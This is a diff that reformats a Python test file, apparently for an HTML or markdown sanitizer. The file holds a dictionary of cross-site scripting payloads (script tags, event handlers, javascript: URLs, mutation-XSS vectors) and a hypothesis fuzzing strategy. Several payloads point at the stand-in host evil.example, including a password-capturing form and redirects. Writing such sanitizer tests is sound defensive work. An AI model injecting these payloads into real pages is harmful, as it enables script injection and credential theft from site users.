@@ -24,24 +24,37 @@ PAYLOADS = {
     "data page": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
     "svg": '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
     "math": '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
-    "mutation by math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "mutation by math": (
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
+        " onerror=alert(1)&gt;'>"
+    ),
     "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
     "javascript frame": '<iframe src="javascript:alert(1)"></iframe>',
     "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
     "embed": '<embed src="javascript:alert(1)">',
-    "form": '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
+    "form": (
+        '<form action="https://evil.example"><input name=password><button>Log in</button></form>'
+    ),
     "base": '<base href="https://evil.example/"><a href="x">x</a>',
     "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
     "style sheet": "<style>body{display:none}</style>x",
     "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
-    "positioning": '<p style="position:fixed;top:0;left:0">x</p><span style="position:absolute;z-index:9">x</span>',
+    "positioning": (
+        '<p style="position:fixed;top:0;left:0">x</p><span'
+        ' style="position:absolute;z-index:9">x</span>'
+    ),
     "style with an address": '<span style="color:red;background:url(javascript:alert(1))">x</span>',
     "style expression": '<span style="font-size:expression(alert(1))">x</span>',
     "escaped style": '<span style="color:\\72 ed;font-family:a\'b&quot;(x)">x</span>',
     "handler in a title": '[x](/y "\\" onmouseover=\\"alert(1)")',
-    "embed title": '<iframe src="https://www.youtube.com/embed/a" title="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
-    "shortcode argument": '{{< figure src="x\\" onerror=alert(1) " caption="<script>alert(1)</script>" >}}',
+    "embed title": (
+        '<iframe src="https://www.youtube.com/embed/a"'
+        ' title="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
+    ),
+    "shortcode argument": (
+        '{{< figure src="x\\" onerror=alert(1) " caption="<script>alert(1)</script>" >}}'
+    ),
     "WordPress argument": '[youtube "><script>alert(1)</script>]',
     "fence language": '```"><script>alert(1)</script>\nx\n```',
     "wiki link": "[[<img src=x onerror=alert(1)>]]",
@@ -98,4 +111,6 @@ PIECES = st.sampled_from(
         "[/code]",
     ]
 )
-BODIES = st.one_of(st.text(), st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=12).map("".join))
+BODIES = st.one_of(
+    st.text(), st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=12).map("".join)
+)
